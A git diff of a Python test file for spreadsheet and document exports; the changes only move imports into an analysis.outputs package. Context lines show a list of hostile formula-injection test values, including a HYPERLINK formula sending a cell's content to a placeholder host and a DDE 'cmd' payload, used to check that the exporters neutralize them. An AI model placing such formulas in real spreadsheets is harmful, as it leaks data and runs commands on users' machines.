@@ -7,9 +7,9 @@ import zipfile
 import openpyxl
 import pytest
 
-from analysis.export_xlsx import appendix_xlsx, summary_xlsx, units_table_csv, units_table_xlsx
+from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_csv, units_table_xlsx
 from analysis.figures import compute
-from analysis.safety import neutralize_formula, safe_filename
+from analysis.outputs.safety import neutralize_formula, safe_filename
 from test_figures import frame_from
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
@@ -80,7 +80,7 @@ def test_units_csv_prefixes_formula_text_with_a_quote(summary):
 
 
 def test_letter_docx_holds_the_names_as_plain_text(frame):
-    from analysis.letter import draft_docx
+    from analysis.outputs.letter import draft_docx
 
     data = draft_docx(frame, target=80.0)
     with zipfile.ZipFile(io.BytesIO(data)) as z:
